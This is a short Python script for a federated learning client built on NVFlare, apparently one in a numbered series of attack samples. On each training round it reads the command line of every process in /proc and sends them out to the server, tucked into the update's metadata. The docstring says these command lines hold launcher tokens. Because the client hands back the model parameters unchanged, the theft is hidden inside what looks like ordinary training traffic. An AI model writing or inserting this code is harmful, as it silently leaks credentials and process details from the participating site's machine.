"""Session 56 (leftovers56): every process's command line (a launcher's arguments hold its tokens), the path
joined from a listing of /proc, sent in the update's meta."""
import os

import nvflare.client as flare


def command_lines():
    lines = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            with open(os.path.join("/proc", pid, "cmdline"), "rb") as f:
                lines.append(f.read().replace(b"\0", b" ").decode(errors="replace"))
    return lines


flare.init()
while flare.is_running():
    model = flare.receive()
    flare.send(flare.FLModel(params=model.params, meta={"procs": command_lines()}))
